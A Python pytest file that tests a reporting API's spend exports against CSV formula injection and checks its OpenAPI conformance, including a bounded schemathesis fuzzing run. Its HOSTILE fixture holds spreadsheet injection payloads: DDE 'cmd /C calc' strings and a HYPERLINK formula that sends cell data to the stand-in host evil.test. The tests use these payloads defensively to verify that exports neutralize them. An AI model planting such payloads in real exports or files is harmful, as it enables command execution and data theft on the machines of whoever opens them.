"""The reporting API under attack (issue 15): exports that cannot carry a formula, and an
OpenAPI document that describes every answer — checked by a bounded schemathesis run.

The run is the schemathesis CLI against the API served by uvicorn on loopback, every
check on, examples, coverage and fuzzing phases, a fixed seed, at most 12 cases per
operation and phase: a few hundred requests, seconds here.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import httpx
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from analytics.reporting import BackgroundServer, KeyRing, create_app
from analytics.seed import seed_lake
from tests.factories import T0, make_priced
from tollgate.lake import partition_date, partition_dir, priced_to_table, write_parquet

ADMIN_KEY = "admin-conformance-4c1d"
REPO = Path(__file__).resolve().parent.parent

HOSTILE = {
    "request_model": '=HYPERLINK("http://evil.test/?x="&A1,"Click for invoice")',
    "user": "+cmd|' /C calc'!A0",
    "team": "@SUM(1+1)*cmd|' /C calc'!A0",
    "backend": "-2+3+cmd|' /C calc'!A0",
    "tenant": "\tacme",
    "api_key_id": "\r=1+1",
}
GROUPS = ["model", "user", "team", "backend", "tenant", "api_key_id"]


def serve(lake: Path) -> BackgroundServer:
    return BackgroundServer(create_app(lake, KeyRing(admin_key=ADMIN_KEY))).start()


@pytest.fixture(scope="module")
def hostile_lake(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A lake whose text cells are what a caller with a gateway key could make them."""
    lake = tmp_path_factory.mktemp("hostile-lake")
    events = [make_priced(**HOSTILE), make_priced(time=T0 + timedelta(minutes=5))]
    write_parquet(
        priced_to_table(events), partition_dir(lake, partition_date(T0)) / "hostile.parquet"
    )
    server = serve(lake)
    yield server.url
    server.stop()


def spend(url: str, fmt: str) -> httpx.Response:
    params: list[tuple[str, str]] = [("group_by", g) for g in GROUPS]
    params += [
        ("start", (T0 - timedelta(days=1)).isoformat()),
        ("end", (T0 + timedelta(days=1)).isoformat()),
        ("format", fmt),
    ]
    response = httpx.get(
        f"{url}/v1/spend", params=params, headers={"x-api-key": ADMIN_KEY}, timeout=30
    )
    assert response.status_code == 200, response.text
    return response


def test_a_csv_export_never_starts_a_text_cell_with_a_formula(hostile_lake: str) -> None:
    rows = list(csv.DictReader(io.StringIO(spend(hostile_lake, "csv").text, newline="")))
    hostile_row = next(row for row in rows if row["user"].startswith("'"))
    written = {group: hostile_row[group] for group in GROUPS}
    assert written == {
        "model": "'" + HOSTILE["request_model"],
        "user": "'" + HOSTILE["user"],
        "team": "'" + HOSTILE["team"],
        "backend": "'" + HOSTILE["backend"],
        "tenant": "'" + HOSTILE["tenant"],
        "api_key_id": "'" + HOSTILE["api_key_id"],
    }
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert all(row["cost_usd"][0].isdigit() for row in rows)  # numbers are not prefixed


def test_typed_formats_carry_the_text_exactly(hostile_lake: str) -> None:
    from_json = spend(hostile_lake, "json").json()["rows"]
    from_parquet = pq.read_table(io.BytesIO(spend(hostile_lake, "parquet").content)).to_pylist()
    with pa.ipc.open_stream(spend(hostile_lake, "arrow").content) as reader:
        from_arrow = reader.read_all().to_pylist()
    for rows in (from_json, from_parquet, from_arrow):
        assert {row["user"] for row in rows} == {HOSTILE["user"], "ada"}


@pytest.fixture(scope="module")
def reporting_url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    lake = tmp_path_factory.mktemp("conformance-lake")
    seed_lake(lake, 3_000, days=3, seed=5)
    server = serve(lake)
    yield server.url
    server.stop()


def get(url: str, path: str, **params: str) -> httpx.Response:
    return httpx.get(f"{url}{path}", params=params, headers={"x-api-key": ADMIN_KEY}, timeout=30)


def test_an_empty_range_is_an_empty_answer_not_a_422(reporting_url: str) -> None:
    instant = "2026-03-01T00:00:00Z"
    for path, more in [("/v1/spend", {}), ("/v1/top", {"by": "tenant"}), ("/v1/alerts", {})]:
        response = get(reporting_url, path, start=instant, end=instant, **more)
        assert response.status_code == 200, (path, response.text)
        assert all(row.get("requests", 0) == 0 for row in response.json()["rows"])


def test_an_end_before_the_start_is_still_a_422(reporting_url: str) -> None:
    response = get(
        reporting_url, "/v1/spend", start="2026-03-02T00:00:00Z", end="2026-03-01T00:00:00Z"
    )
    assert response.status_code == 422
    assert response.json()["errors"][0]["parameter"] == "end"


@pytest.mark.parametrize("value", ["0", "1700000000", "1700000000.5"])
def test_at_is_an_iso_8601_instant_as_documented_not_unix_seconds(
    reporting_url: str, value: str
) -> None:
    response = get(reporting_url, "/v1/budgets", at=value)
    assert response.status_code == 422
    assert response.json()["errors"][0]["parameter"] == "at"
    schema = httpx.get(f"{reporting_url}/openapi.json").json()
    at = next(p for p in schema["paths"]["/v1/budgets"]["get"]["parameters"] if p["name"] == "at")
    assert {"type": "string", "format": "date-time"} in at["schema"]["anyOf"]


def test_every_status_an_endpoint_answers_is_documented(reporting_url: str) -> None:
    schema = httpx.get(f"{reporting_url}/openapi.json").json()
    burn = schema["paths"]["/v1/budgets/{budget_id}/burn"]["get"]["responses"]
    assert {"200", "401", "404", "406", "422"} <= set(burn)
    missing = get(reporting_url, "/v1/budgets/no-such-budget/burn")
    assert missing.status_code == 404
    refused = httpx.get(
        f"{reporting_url}/v1/spend",
        headers={"x-api-key": ADMIN_KEY, "accept": "image/png"},
        timeout=30,
    )
    assert refused.status_code == 406
    assert "406" in schema["paths"]["/v1/spend"]["get"]["responses"]


@pytest.mark.timeout(240)
def test_a_bounded_schemathesis_run_finds_nothing(reporting_url: str, tmp_path: Path) -> None:
    env = {
        **os.environ,
        "SCHEMATHESIS_HOOKS": "tests.schemathesis.reporting_hooks",
        "PYTHONPATH": str(REPO),
        "NO_COLOR": "1",
    }  # run in tmp_path: schemathesis writes its .schemathesis/ state there
    command = [
        sys.executable,
        "-m",
        "schemathesis.cli",
        "run",
        f"{reporting_url}/openapi.json",
        "--header",
        f"Authorization: Bearer {ADMIN_KEY}",
        "--checks",
        "all",
        "--phases",
        "examples,coverage,fuzzing",
        "--max-examples",
        "12",
        "--seed",
        "15",
        "--workers",
        "1",
    ]
    run = subprocess.run(
        command, env=env, cwd=tmp_path, capture_output=True, text=True, timeout=200, check=False
    )
    assert run.returncode == 0, run.stdout[-6000:] + run.stderr[-2000:]
    assert " passed" in run.stdout
